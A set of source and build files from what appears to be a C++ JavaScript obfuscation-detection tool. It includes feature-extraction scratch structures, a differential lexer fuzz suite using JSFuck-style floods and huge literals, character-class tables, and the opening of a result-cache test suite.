  // FNV-1a partial hash states, one per in-flight n-gram window.
  std::vector<std::uint64_t> fnv_ring;
  // Hashed n-gram histogram (hash_dim buckets).
  std::vector<float> ngram_histogram;
  // The assembled feature vector extract_into returns a view of.
  std::vector<float> row;
  // Data-flow builder workspace (scope/binding tables and pooled site
  // spans), threaded through AnalysisOptions::dataflow_scratch when this
  // scratch drives the analysis stage too.
  DataFlowScratch dataflow;
  // CFG builder workspace (edge list, statement-walk stacks, CSR arrays),
  // threaded through AnalysisOptions::cfg_scratch alongside `dataflow`.
  CfgScratch cfg;
  // Early-exit traversal stack for script_eligible / ast_eligible.
  std::vector<const Node*> eligibility_stack;
  // Number of times this scratch has been handed an extraction; >0 means
  // a reuse (the allocation-free steady state the obs counter tracks).
  std::uint64_t uses = 0;

  std::size_t capacity_bytes() const {
    return counters.capacity_bytes() +
           walk_stack.capacity() * sizeof(walk_stack[0]) +
           level_counts.capacity() * sizeof(std::size_t) +
           fnv_ring.capacity() * sizeof(std::uint64_t) +
           (ngram_histogram.capacity() + row.capacity()) * sizeof(float) +
           dataflow.capacity_bytes() + cfg.capacity_bytes() +
           eligibility_stack.capacity() * sizeof(const Node*);
  }
};

}  // namespace jst::features
