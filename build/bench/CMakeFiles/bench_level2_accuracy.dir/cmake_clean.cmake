file(REMOVE_RECURSE
  "CMakeFiles/bench_level2_accuracy.dir/bench_level2_accuracy.cpp.o"
  "CMakeFiles/bench_level2_accuracy.dir/bench_level2_accuracy.cpp.o.d"
  "bench_level2_accuracy"
  "bench_level2_accuracy.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_level2_accuracy.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
