file(REMOVE_RECURSE
  "CMakeFiles/jst_interp.dir/builtins.cpp.o"
  "CMakeFiles/jst_interp.dir/builtins.cpp.o.d"
  "CMakeFiles/jst_interp.dir/interpreter.cpp.o"
  "CMakeFiles/jst_interp.dir/interpreter.cpp.o.d"
  "CMakeFiles/jst_interp.dir/value.cpp.o"
  "CMakeFiles/jst_interp.dir/value.cpp.o.d"
  "libjst_interp.a"
  "libjst_interp.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/jst_interp.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
