// Differential lexer fuzz suite (DESIGN.md §16): the scalar block
// scanners are the reference oracle; every hostile input below must lex
// to a byte-identical token stream — every Token field, the TokenStats
// the parser derives, comment accounting, error positions, and budget
// trip points — under the SWAR and SIMD scan policies. The suite carries
// the `robustness` label so the asan/ubsan presets run the wide scanners
// (unaligned 8/16-byte loads over arena-backed buffers) under the
// sanitizers, and it runs in the JST_THREADS 1/4 matrix alongside the
// other bit-identity gates.
#include <gtest/gtest.h>

#include <cstdint>
#include <cstdio>
#include <string>
#include <vector>

#include "lexer/char_class.h"
#include "lexer/lexer.h"
#include "lexer/scan.h"
#include "parser/parser.h"
#include "support/arena.h"
#include "support/budget.h"
#include "support/rng.h"

namespace jst {
namespace {

using lex::ScanPolicy;
using lex::ScopedScanPolicy;

// Every policy the build can express. kSimd degrades to kSwar on targets
// without a compiled-in 16-byte path (set_scan_policy clamps), which
// still differentially tests the SWAR scanners twice — harmless.
const std::vector<ScanPolicy> kPolicies = {
    ScanPolicy::kScalar, ScanPolicy::kSwar, ScanPolicy::kSimd};

// The complete observable result of lexing one source: the full token
// stream (every field), comment accounting, the final line number, and —
// when the run failed or tripped a budget — the exact error. One string
// so a mismatch diffs readably in the gtest output.
std::string lex_fingerprint(const std::string& source,
                            const ResourceLimits& limits = {}) {
  support::Arena arena;
  Budget budget(limits);
  Lexer lexer(source, arena, limits.any_enabled() ? &budget : nullptr);
  std::string out;
  out.reserve(source.size() * 2);
  const auto append_number = [&out](double value) {
    char buffer[64];
    std::snprintf(buffer, sizeof(buffer), "%.17g", value);
    out += buffer;
  };
  try {
    std::size_t token_index = 0;
    while (true) {
      const Token token = lexer.next();
      if (token.type == TokenType::kEndOfFile) break;
      out += token_type_name(token.type);
      out += ' ';
      append_number(static_cast<double>(token.offset));
      out += ':';
      append_number(static_cast<double>(token.line));
      out += ':';
      append_number(static_cast<double>(token.column));
      out += token.newline_before ? " nl " : " - ";
      out.append(token.value.data(), token.value.size());
      out += '\x1f';
      out.append(token.raw.data(), token.raw.size());
      out += '\x1f';
      if (token.type == TokenType::kNumericLiteral) {
        append_number(token.number);
      }
      if (token.type == TokenType::kRegularExpression) {
        out.append(token.regex_flags.data(), token.regex_flags.size());
      }
      for (const std::string_view quasi : token.template_quasis) {
        out += "q[";
        out.append(quasi.data(), quasi.size());
        out += ']';
      }
      for (const std::string_view expr : token.template_expressions) {
        out += "e[";
        out.append(expr.data(), expr.size());
        out += ']';
      }
      out += '\n';
      ++token_index;
    }
    out += "eof tokens=";
    append_number(static_cast<double>(token_index));
  } catch (const ParseError& error) {
    out += "parse_error ";
    out += error.what();
  } catch (const BudgetExceeded& error) {
    out += "budget_trip ";
    out += error.what();
  }
  out += " comments=";
  out += std::to_string(lexer.comment_count());
  out += '/';
  out += std::to_string(lexer.comment_bytes());
  out += " line=";
  out += std::to_string(lexer.line());
  return out;
}

// Full-frontend fingerprint: parse_program's TokenStats and AST shape
// (the downstream consumers of the token stream).
std::string parse_fingerprint(const std::string& source) {
  support::Arena arena;
  try {
    const ParseResult result = parse_program(source, nullptr, &arena);
    std::string out = "nodes=" + std::to_string(result.ast.node_count());
    out += " tokens=" + std::to_string(result.token_stats.count);
    out += " punct=" + std::to_string(result.token_stats.punctuators);
    out += " maxline=" + std::to_string(result.token_stats.max_line_length);
    char raw[64];
    std::snprintf(raw, sizeof(raw), " raw=%.17g",
                  result.token_stats.raw_bytes);
    out += raw;
    out += " comments=" + std::to_string(result.comment_count);
    out += "/" + std::to_string(result.comment_bytes);
    out += " lines=" + std::to_string(result.source_lines);
    return out;
  } catch (const ParseError& error) {
    return std::string("parse_error ") + error.what();
  }
}

// Asserts that every policy reproduces the scalar oracle byte for byte.
void expect_policy_identical(const std::string& source,
                             const ResourceLimits& limits = {}) {
  std::string oracle;
  {
    ScopedScanPolicy scoped(ScanPolicy::kScalar);
    oracle = lex_fingerprint(source, limits);
  }
  for (const ScanPolicy policy : kPolicies) {
    ScopedScanPolicy scoped(policy);
    EXPECT_EQ(lex_fingerprint(source, limits), oracle)
        << "policy=" << lex::scan_policy_name(policy)
        << " source bytes=" << source.size();
  }
}

void expect_parse_identical(const std::string& source) {
  std::string oracle;
  {
    ScopedScanPolicy scoped(ScanPolicy::kScalar);
    oracle = parse_fingerprint(source);
  }
  for (const ScanPolicy policy : kPolicies) {
    ScopedScanPolicy scoped(policy);
    EXPECT_EQ(parse_fingerprint(source), oracle)
        << "policy=" << lex::scan_policy_name(policy);
  }
}

// --- hostile input generators ----------------------------------------------

// JSFuck-style flood: the six-character alphabet, long unbroken runs of
// punctuators with interleaved identifier islands.
std::string jsfuck_flood(std::size_t length, std::uint64_t seed) {
  // Balanced fragments only, so the flood both lexes and parses.
  static const char* kFragments[] = {"+[]",   "+!![]", "+(+[])", "+[[]]",
                                     "+!+[]", "+(!![]+[])"};
  Rng rng(seed);
  std::string source = "var x = []";
  while (source.size() < length) {
    source += kFragments[static_cast<std::size_t>(rng.uniform_int(0, 5))];
  }
  source += ";";
  return source;
}

// One string literal covering a size target (the 1 MB case) with escapes
// sprinkled at irregular offsets so the dirty-path run-appends exercise
// every word/vector boundary phase.
std::string huge_string_literal(std::size_t payload, std::size_t escape_every,
                                char quote) {
  std::string source = "var s = ";
  source += quote;
  for (std::size_t i = 0; i < payload; ++i) {
    if (escape_every != 0 && i % escape_every == 0) {
      source += "\\x41";
    } else {
      source += static_cast<char>('a' + (i % 23));
    }
  }
  source += quote;
  source += ';';
  return source;
}

// Deeply nested template literals: `t0${`t1${...}u1`}u0`.
std::string deep_template(std::size_t depth) {
  std::string inner = "1";
  for (std::size_t i = 0; i < depth; ++i) {
    inner = "`t" + std::to_string(i % 10) + "${" + inner + "}u" +
            std::to_string(i % 10) + "`";
  }
  return "var t = " + inner + ";";
}

}  // namespace

// --- the suites -------------------------------------------------------------

TEST(LexerDiff, JsFuckFloods) {
  for (const std::size_t length : {64u, 4096u, 65536u}) {
    expect_policy_identical(jsfuck_flood(length, 0xf00d + length));
  }
  expect_parse_identical(jsfuck_flood(4096, 0xf00d));
}

TEST(LexerDiff, MegabyteStringLiterals) {
  // Escape-free (pure block-scan fast path), sparse escapes (dirty-path
  // run appends), dense escapes (short runs), both quote kinds.
  expect_policy_identical(huge_string_literal(1 << 20, 0, '"'));
  expect_policy_identical(huge_string_literal(1 << 20, 4097, '\''));
  expect_policy_identical(huge_string_literal(1 << 16, 3, '"'));
  expect_parse_identical(huge_string_literal(1 << 18, 0, '"'));
}

TEST(LexerDiff, DeepTemplateNesting) {
  for (const std::size_t depth : {1u, 7u, 63u, 255u}) {
    expect_policy_identical(deep_template(depth));
  }
  expect_parse_identical(deep_template(31));
}

TEST(LexerDiff, EveryByteValueInStringPayloads) {
  // All 256 byte values inside a double-quoted literal, escaping only the
  // bytes the grammar cannot carry raw ('"', '\\', '\n', '\r'). Repeated
  // at shifted alignments so every value crosses word and vector
  // boundaries in every lane position.
  std::string payload;
  for (int b = 0; b < 256; ++b) {
    const char c = static_cast<char>(b);
    if (c == '"') {
      payload += "\\\"";
    } else if (c == '\\') {
      payload += "\\\\";
    } else if (c == '\n') {
      payload += "\\n";
    } else if (c == '\r') {
      payload += "\\r";
    } else {
      payload += c;
    }
  }
  for (std::size_t shift = 0; shift < 17; ++shift) {
    std::string source = "var b = \"";
    source += std::string(shift, '=');
    for (int repeat = 0; repeat < 4; ++repeat) source += payload;
    source += "\";";
    expect_policy_identical(source);
  }
}

TEST(LexerDiff, EveryByteValueStandalone) {
  // Each byte value alone after a valid statement: identical token-or-
  // error outcome (most high bytes are lexer errors — the error line and
  // column must match, too).
  for (int b = 1; b < 256; ++b) {
    std::string source = "var v = 1;\n";
    source += static_cast<char>(b);
    expect_policy_identical(source);
  }
}

TEST(LexerDiff, IdentifierAndWhitespaceWalls) {
  // Identifier floods (ASCII and UTF-8 passthrough), whitespace walls
  // with '\r' islands, comment walls — the trivia block scanners.
  std::string identifiers = "var ";
  for (int i = 0; i < 5000; ++i) {
    identifiers += "_a$9";
  }
  identifiers += "\xc3\xa9\xe2\x82\xac = 1;";
  expect_policy_identical(identifiers);

  std::string whitespace = "var\t\t  \f\v w";
  whitespace += std::string(10000, ' ');
  whitespace += "\r\n\r  = \r1;";
  expect_policy_identical(whitespace);

  std::string comments = "// " + std::string(8000, 'x') + "\n";
  comments += "/* " + std::string(8000, '*') + " */ var c = 1;\n";
  comments += "<!-- html comment " + std::string(100, '-') + "\nc;";
  expect_policy_identical(comments);
  expect_parse_identical(comments);
}

TEST(LexerDiff, EscapePhasesAndUnterminatedErrors) {
  // Error positions must survive the block scanners: unterminated
  // strings/templates/comments/regexes, newline-in-string at every
  // alignment phase, lone backslashes.
  for (std::size_t pad = 0; pad < 20; ++pad) {
    const std::string fill(pad, 'p');
    expect_policy_identical("var s = \"" + fill + "\nrest\";");
    expect_policy_identical("var s = \"" + fill);
    expect_policy_identical("var t = `" + fill);
    expect_policy_identical("/* " + fill);
    expect_policy_identical("var r = /" + fill);
    expect_policy_identical("var i = " + fill + "\\;");
  }
}

TEST(LexerDiff, BudgetTripPointsIdentical) {
  // A tight token ceiling must trip at the same token under every policy
  // (same BudgetExceeded message, same observed count), on sources whose
  // token boundaries the block scanners produce.
  ResourceLimits limits;
  limits.max_tokens = 100;
  expect_policy_identical(jsfuck_flood(4096, 0xbead), limits);
  expect_policy_identical(huge_string_literal(1 << 16, 5, '"'), limits);
  ResourceLimits generous;
  generous.max_tokens = 1 << 20;
  expect_policy_identical(deep_template(63), generous);
}

TEST(LexerDiff, RandomizedMixedSources) {
  // Deterministic random soup over token kinds: every policy must agree
  // on 64 generated programs (and the parser must agree on a sample).
  Rng rng(0x5eed);
  for (int round = 0; round < 64; ++round) {
    std::string source;
    const int pieces = 20 + static_cast<int>(rng.uniform_int(0, 60));
    for (int i = 0; i < pieces; ++i) {
      switch (rng.uniform_int(0, 9)) {
        case 0: source += "var v" + std::to_string(i) + " = 1;"; break;
        case 1: source += "\"s" + std::string(
            static_cast<std::size_t>(rng.uniform_int(0, 40)), 's') + "\";";
          break;
        case 2: source += "`t${i" + std::to_string(i) + "}`;"; break;
        case 3: source += "// c" + std::string(
            static_cast<std::size_t>(rng.uniform_int(0, 30)), 'c') + "\n";
          break;
        case 4: source += "/* " + std::string(
            static_cast<std::size_t>(rng.uniform_int(0, 30)), 'b') + " */";
          break;
        case 5: source += "x = 0x" + std::to_string(rng.uniform_int(1, 9)) +
                          "f + .5e2;";
          break;
        case 6: source += "r = /[a-z\\]]+/gi;"; break;
        case 7: source += "o = {a: [1, 2], b: c ? d : e};"; break;
        case 8: source += std::string(
            static_cast<std::size_t>(rng.uniform_int(1, 12)), ' ');
          break;
        default: source += "f(a, b) >>> 2 !== 3;\n"; break;
      }
    }
    expect_policy_identical(source);
    if (round % 8 == 0) expect_parse_identical(source);
  }
}

}  // namespace jst
