# Empty compiler generated dependencies file for bench_fig8_longitudinal_npm.
# This may be replaced when dependencies are built.
