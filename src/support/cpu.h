// CPU feature discovery for the vectorized scanners.
//
// x86-64 guarantees SSE2 and AArch64 guarantees NEON, so the 16-byte
// scanner paths are compile-time facts, not runtime probes; this header
// centralizes the detection macros so lexer/scan.cpp and the benches ask
// one place. simd_kind() is what the dispatch policy and BENCH_lexer.json
// report as the active vector ISA.
#pragma once

#include <string_view>

#if defined(__SSE2__) || defined(__x86_64__) || defined(_M_X64)
#define JST_HAVE_SSE2 1
#else
#define JST_HAVE_SSE2 0
#endif

#if defined(__aarch64__) || defined(_M_ARM64)
#define JST_HAVE_NEON 1
#else
#define JST_HAVE_NEON 0
#endif

namespace jst::support {

enum class SimdKind {
  kNone,  // no 16-byte path compiled in; SWAR is the widest scanner
  kSse2,
  kNeon,
};

// The vector ISA the scanners were compiled against (fixed per binary).
constexpr SimdKind simd_kind() {
#if JST_HAVE_SSE2
  return SimdKind::kSse2;
#elif JST_HAVE_NEON
  return SimdKind::kNeon;
#else
  return SimdKind::kNone;
#endif
}

constexpr bool simd_available() { return simd_kind() != SimdKind::kNone; }

std::string_view simd_kind_name(SimdKind kind);

}  // namespace jst::support
