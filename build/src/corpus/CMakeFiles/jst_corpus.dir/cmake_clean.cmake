file(REMOVE_RECURSE
  "CMakeFiles/jst_corpus.dir/generator.cpp.o"
  "CMakeFiles/jst_corpus.dir/generator.cpp.o.d"
  "CMakeFiles/jst_corpus.dir/snippets.cpp.o"
  "CMakeFiles/jst_corpus.dir/snippets.cpp.o.d"
  "CMakeFiles/jst_corpus.dir/vocab.cpp.o"
  "CMakeFiles/jst_corpus.dir/vocab.cpp.o.d"
  "libjst_corpus.a"
  "libjst_corpus.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/jst_corpus.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
