file(REMOVE_RECURSE
  "CMakeFiles/bench_fig3_npm.dir/bench_fig3_npm.cpp.o"
  "CMakeFiles/bench_fig3_npm.dir/bench_fig3_npm.cpp.o.d"
  "bench_fig3_npm"
  "bench_fig3_npm.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_fig3_npm.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
