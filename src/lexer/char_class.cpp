// Compile-time generator for the 256-entry character-class tables.
//
// The tables are built by constexpr functions from reference predicates
// that restate, byte for byte, the classification the scalar lexer used
// before the table-driven rebuild. static_asserts below then prove the
// generated tables agree with the reference predicates on every byte
// value, so a taxonomy regression is a compile error, not a lexing bug.
#include "lexer/char_class.h"

#include <array>

namespace jst::lex {
namespace {

// --- reference predicates (the pre-table scalar definitions) ---

constexpr bool ref_ws(unsigned char c) {
  return c == ' ' || c == '\t' || c == '\v' || c == '\f' || c == '\r';
}
constexpr bool ref_digit(unsigned char c) { return c >= '0' && c <= '9'; }
constexpr bool ref_alpha(unsigned char c) {
  return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z');
}
constexpr bool ref_id_start(unsigned char c) {
  return ref_alpha(c) || c == '_' || c == '$';
}
constexpr bool ref_id_part(unsigned char c) {
  return ref_id_start(c) || ref_digit(c) || c >= 0x80;
}
constexpr bool ref_hex(unsigned char c) {
  return ref_digit(c) || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F');
}
constexpr bool ref_line_terminator(unsigned char c) {
  return c == '\n' || c == '\r';
}
// First bytes of the ES punctuator set (scan_punctuator's tables).
constexpr bool ref_punct_start(unsigned char c) {
  constexpr const char* kStarts = "{}()[];,<>+-*/%&|^!~?:=.";
  for (const char* p = kStarts; *p != '\0'; ++p) {
    if (static_cast<unsigned char>(*p) == c) return true;
  }
  return false;
}

// --- table generators ---

constexpr std::array<std::uint8_t, 256> make_flags() {
  std::array<std::uint8_t, 256> flags{};
  for (unsigned i = 0; i < 256; ++i) {
    const auto c = static_cast<unsigned char>(i);
    std::uint8_t f = 0;
    if (ref_ws(c)) f |= kFlagWhitespace;
    if (ref_id_start(c)) f |= kFlagIdStart;
    if (ref_id_part(c)) f |= kFlagIdPart;
    if (ref_digit(c)) f |= kFlagDigit;
    if (ref_hex(c)) f |= kFlagHexDigit;
    if (ref_line_terminator(c)) f |= kFlagLineTerminator;
    flags[i] = f;
  }
  return flags;
}

constexpr std::array<CharClass, 256> make_classes() {
  std::array<CharClass, 256> classes{};
  for (unsigned i = 0; i < 256; ++i) {
    const auto c = static_cast<unsigned char>(i);
    // Mirrors the dispatch ladder of the pre-table Lexer::next(): the
    // first matching branch wins, so order matters for bytes in several
    // sets ('\r' is whitespace before line terminator, '.' and '/' get
    // their lookahead classes before the generic punctuator class).
    CharClass cls = CharClass::kOther;
    if (c == '\n') {
      cls = CharClass::kNewline;
    } else if (ref_ws(c)) {
      cls = CharClass::kWhitespace;
    } else if (ref_id_start(c)) {
      cls = CharClass::kIdStart;
    } else if (c == '\\') {
      cls = CharClass::kBackslash;
    } else if (ref_digit(c)) {
      cls = CharClass::kDigit;
    } else if (c == '.') {
      cls = CharClass::kDot;
    } else if (c == '"' || c == '\'') {
      cls = CharClass::kQuote;
    } else if (c == '`') {
      cls = CharClass::kBacktick;
    } else if (c == '/') {
      cls = CharClass::kSlash;
    } else if (ref_punct_start(c)) {
      cls = CharClass::kPunct;
    }
    classes[i] = cls;
  }
  return classes;
}

constexpr std::array<std::uint8_t, 256> kFlagsTable = make_flags();
constexpr std::array<CharClass, 256> kClassTable = make_classes();

// --- exhaustive cross-checks (every byte, every predicate) ---

constexpr bool flags_match_reference() {
  for (unsigned i = 0; i < 256; ++i) {
    const auto c = static_cast<unsigned char>(i);
    const std::uint8_t f = kFlagsTable[i];
    if (((f & kFlagWhitespace) != 0) != ref_ws(c)) return false;
    if (((f & kFlagIdStart) != 0) != ref_id_start(c)) return false;
    if (((f & kFlagIdPart) != 0) != ref_id_part(c)) return false;
    if (((f & kFlagDigit) != 0) != ref_digit(c)) return false;
    if (((f & kFlagHexDigit) != 0) != ref_hex(c)) return false;
    if (((f & kFlagLineTerminator) != 0) != ref_line_terminator(c)) {
      return false;
    }
  }
  return true;
}

constexpr bool classes_partition_bytes() {
  for (unsigned i = 0; i < 256; ++i) {
    const auto c = static_cast<unsigned char>(i);
    const CharClass cls = kClassTable[i];
    // Every byte lands in exactly the class its reference branch chose.
    if (c == '\n' && cls != CharClass::kNewline) return false;
    if (c != '\n' && ref_ws(c) && cls != CharClass::kWhitespace) return false;
    if (ref_id_start(c) && cls != CharClass::kIdStart) return false;
    if (c == '\\' && cls != CharClass::kBackslash) return false;
    if (ref_digit(c) && cls != CharClass::kDigit) return false;
    if (c == '.' && cls != CharClass::kDot) return false;
    if ((c == '"' || c == '\'') && cls != CharClass::kQuote) return false;
    if (c == '`' && cls != CharClass::kBacktick) return false;
    if (c == '/' && cls != CharClass::kSlash) return false;
    if (c >= 0x80 && cls != CharClass::kOther) return false;
  }
  return true;
}

static_assert(flags_match_reference());
static_assert(classes_partition_bytes());
static_assert(kClassTable['#'] == CharClass::kOther);
static_assert(kClassTable['@'] == CharClass::kOther);
static_assert(kClassTable['<'] == CharClass::kPunct);
static_assert(kClassTable[':'] == CharClass::kPunct);

}  // namespace

const std::array<std::uint8_t, 256> kCharFlags = kFlagsTable;
const std::array<CharClass, 256> kCharClass = kClassTable;

}  // namespace jst::lex
