// Content-addressed result cache (DESIGN.md §15): key derivation, the
// two-tier ResultCache, the cache-aware AnalyzerService request path,
// and the wire v3 cache fields.
//
//  * Bit-identity: a cache hit returns byte-identical outcomes to
//    recomputation (round-trip through the record format included), for
//    serial and four-wide batches, cache on or off.
//  * Key isolation: model fingerprint and limits fingerprint partition
//    the key space — the same source under different governance or a
//    different model never aliases.
//  * Durability: the disk tier survives restart and memory eviction; a
//    torn tail truncates back to the last good record; a foreign header
//    discards the file instead of reinterpreting it.
//  * Staleness rules: budget/deadline/degraded outcomes are never
//    stored; refresh recomputes and overwrites (last record wins).
//  * Wire v3: cache_mode round-trips, stays off the wire when default,
//    is rejected under a pinned v1/v2, and v2 lines parse identically.
#include <gtest/gtest.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <memory>
#include <optional>
#include <regex>
#include <set>
#include <string>
#include <vector>

#include "analysis/longitudinal.h"
#include "analysis/pipeline.h"
#include "analysis/result_cache.h"
#include "analysis/service.h"
#include "analysis/wild.h"
#include "analysis/wire.h"
#include "support/json_reader.h"
#include "support/rng.h"
#include "transform/transform.h"

namespace jst {
namespace {

// Same corpus as test_frontend/test_server: 16 deterministic regular
// scripts plus one transformed variant per technique — all distinct
// bytes, so batch-level cache accounting is exact.
std::vector<std::string> seed_corpus() {
  analysis::CorpusSpec spec;
  spec.regular_count = 16;
  spec.seed = 424242;
  std::vector<std::string> corpus = analysis::generate_regular_corpus(spec);
  Rng rng(99);
  std::size_t base = 0;
  for (const transform::Technique technique : transform::all_techniques()) {
    corpus.push_back(
        analysis::make_transformed_sample(corpus[base % 16], technique, rng)
            .source);
    ++base;
  }
  return corpus;
}

const analysis::TransformationAnalyzer& shared_analyzer() {
  static analysis::TransformationAnalyzer* analyzer = [] {
    analysis::PipelineOptions options;
    options.training_regular_count = 32;
    options.per_technique_count = 6;
    options.detector.forest.tree_count = 6;
    options.detector.features.ngram.hash_dim = 64;
    options.seed = 20260806;
    auto* built = new analysis::TransformationAnalyzer(options);
    built->train();
    return built;
  }();
  return *analyzer;
}

// A second trained model with a different seed: same API, different
// fingerprint — the model axis of the key space.
const analysis::TransformationAnalyzer& other_analyzer() {
  static analysis::TransformationAnalyzer* analyzer = [] {
    analysis::PipelineOptions options;
    options.training_regular_count = 32;
    options.per_technique_count = 6;
    options.detector.forest.tree_count = 6;
    options.detector.features.ngram.hash_dim = 64;
    options.seed = 777;
    auto* built = new analysis::TransformationAnalyzer(options);
    built->train();
    return built;
  }();
  return *analyzer;
}

// Wall-clock timings differ run to run; everything else must not.
std::string strip_timing(const std::string& outcome_json) {
  static const std::regex kTiming("\"timing\":\\{[^}]*\\},");
  return std::regex_replace(outcome_json, kTiming, "");
}

// RAII scratch directory for disk-tier tests.
struct TempDir {
  TempDir() {
    char tmpl[] = "/tmp/jst_cache_test_XXXXXX";
    const char* made = ::mkdtemp(tmpl);
    EXPECT_NE(made, nullptr);
    path = made != nullptr ? made : "";
  }
  ~TempDir() {
    if (path.empty()) return;
    const std::string record = path + "/results.ndjson";
    ::unlink(record.c_str());
    ::rmdir(path.c_str());
  }
  std::string path;
};

analysis::ScriptOutcome analyze_outcome_of(const std::string& source) {
  const analysis::AnalyzerService service(shared_analyzer());
  return service.analyze(analysis::AnalyzeRequest::for_source(source)).outcome;
}

std::string file_contents(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::string all((std::istreambuf_iterator<char>(in)),
                  std::istreambuf_iterator<char>());
  return all;
}

// --- key derivation --------------------------------------------------------

TEST(LimitsFingerprint, DistinguishesEveryCeiling) {
  const std::string base = analysis::limits_fingerprint(ResourceLimits{});
  EXPECT_EQ(base.size(), 16u);
  EXPECT_EQ(base.find_first_not_of("0123456789abcdef"), std::string::npos);

  ResourceLimits variants[6];
  variants[0].max_source_bytes = 1024;
  variants[1].max_tokens = 1024;
  variants[2].max_ast_nodes = 1024;
  variants[3].max_ast_depth = 1024;
  variants[4].max_dataflow_edges = 1024;
  variants[5].deadline_ms = 1024.0;
  std::vector<std::string> fingerprints = {base};
  for (const ResourceLimits& limits : variants) {
    const std::string fingerprint = analysis::limits_fingerprint(limits);
    for (const std::string& prior : fingerprints) {
      EXPECT_NE(fingerprint, prior);
    }
    fingerprints.push_back(fingerprint);
  }
  // Deterministic: same limits, same fingerprint.
  EXPECT_EQ(analysis::limits_fingerprint(ResourceLimits::production()),
            analysis::limits_fingerprint(ResourceLimits::production()));
}

TEST(CacheKey, ComposesContentModelLimitsAndWireVersion) {
  const std::string content = analysis::content_hash("var x = 1;");
  const std::string key =
      analysis::ResultCache::make_key(content, "00ff00ff00ff00ff",
                                      ResourceLimits::production());
  EXPECT_NE(key.find(content), std::string::npos);
  EXPECT_NE(key.find("00ff00ff00ff00ff"), std::string::npos);
  EXPECT_NE(key.find(analysis::limits_fingerprint(
                ResourceLimits::production())),
            std::string::npos);
  EXPECT_NE(key.find("|v" + std::to_string(
                analysis::wire::kWireFormatVersion)),
            std::string::npos);
  // Any component change changes the key.
  EXPECT_NE(key, analysis::ResultCache::make_key(
                     analysis::content_hash("var x = 2;"),
                     "00ff00ff00ff00ff", ResourceLimits::production()));
  EXPECT_NE(key, analysis::ResultCache::make_key(content, "deadbeefdeadbeef",
                                                 ResourceLimits::production()));
  EXPECT_NE(key, analysis::ResultCache::make_key(content, "00ff00ff00ff00ff",
                                                 ResourceLimits{}));
}

// --- record round-trip -----------------------------------------------------

TEST(OutcomeRoundTrip, ParseReproducesWireBytesExactly) {
  // The cache's bit-identity rests on this invariant: for every outcome
  // shape the pipeline produces (ok, parse error, ineligible-size,
  // ineligible-ast), deserializing the kFull wire JSON and re-serializing
  // reproduces the original bytes.
  std::vector<std::string> sources = seed_corpus();
  sources.push_back("var = ;;; {{{");                              // parse error
  sources.push_back("var tiny = 1;");                              // < 512 bytes
  sources.push_back("var filler = \"" + std::string(600, 'a') + "\";");  // no AST
  for (const std::string& source : sources) {
    const analysis::ScriptOutcome outcome = analyze_outcome_of(source);
    const std::string json = analysis::wire::script_outcome_json(outcome);
    std::string error;
    const std::optional<support::JsonValue> document =
        support::parse_json(json, &error);
    ASSERT_TRUE(document.has_value()) << error;
    const std::optional<analysis::ScriptOutcome> parsed =
        analysis::parse_script_outcome(*document);
    ASSERT_TRUE(parsed.has_value()) << json;
    EXPECT_EQ(analysis::wire::script_outcome_json(*parsed), json);
  }
}

TEST(OutcomeRoundTrip, RejectsStructuralDamage) {
  const analysis::ScriptOutcome outcome = analyze_outcome_of("var ok = 1;"
      " function f(a) { return a + ok; } f(1);");
  const std::string json = analysis::wire::script_outcome_json(outcome);
  std::string error;
  // Unknown status string.
  std::string bad = json;
  bad.replace(bad.find("\"status\":\"") + 10, 2, "zz");
  const auto damaged = support::parse_json(bad, &error);
  ASSERT_TRUE(damaged.has_value());
  EXPECT_FALSE(analysis::parse_script_outcome(*damaged).has_value());
  // Not an object at all.
  const auto scalar = support::parse_json("42", &error);
  ASSERT_TRUE(scalar.has_value());
  EXPECT_FALSE(analysis::parse_script_outcome(*scalar).has_value());
}

// --- ResultCache unit behavior --------------------------------------------

TEST(ResultCache, HitMissAndStoreCounters) {
  analysis::ResultCache cache({});
  const analysis::ScriptOutcome outcome = analyze_outcome_of("var a = 1;");
  const std::string key = "k1|m|l|v3";
  EXPECT_FALSE(cache.lookup(key).has_value());
  cache.store(key, outcome);
  const std::optional<analysis::ScriptOutcome> hit = cache.lookup(key);
  ASSERT_TRUE(hit.has_value());
  EXPECT_EQ(analysis::wire::script_outcome_json(*hit),
            analysis::wire::script_outcome_json(outcome));
  cache.note_bypass();
  const analysis::ResultCache::Counters counters = cache.counters();
  EXPECT_EQ(counters.hits, 1u);
  EXPECT_EQ(counters.misses, 1u);
  EXPECT_EQ(counters.stores, 1u);
  EXPECT_EQ(counters.bypasses, 1u);
  EXPECT_EQ(counters.entries, 1u);
  EXPECT_GT(counters.bytes, 0u);
}

TEST(ResultCache, NeverStoresUnsettledOutcomes) {
  analysis::ResultCache cache({});
  analysis::ScriptOutcome outcome = analyze_outcome_of("var a = 1;");
  const analysis::ScriptStatus unsettled[] = {
      analysis::ScriptStatus::kBudgetTokens,
      analysis::ScriptStatus::kBudgetAstNodes,
      analysis::ScriptStatus::kBudgetDepth,
      analysis::ScriptStatus::kBudgetDataflow,
      analysis::ScriptStatus::kDeadlineExceeded,
      analysis::ScriptStatus::kDegraded,
  };
  std::size_t i = 0;
  for (const analysis::ScriptStatus status : unsettled) {
    outcome.status = status;
    EXPECT_FALSE(analysis::ResultCache::cacheable(outcome));
    const std::string key = "unsettled-" + std::to_string(i++);
    cache.store(key, outcome);
    EXPECT_FALSE(cache.contains(key));
  }
  EXPECT_EQ(cache.counters().stores, 0u);
  // The settled statuses are cacheable.
  outcome.status = analysis::ScriptStatus::kOk;
  EXPECT_TRUE(analysis::ResultCache::cacheable(outcome));
  outcome.status = analysis::ScriptStatus::kParseError;
  EXPECT_TRUE(analysis::ResultCache::cacheable(outcome));
}

TEST(ResultCache, LruEvictsByByteBudgetOldestFirst) {
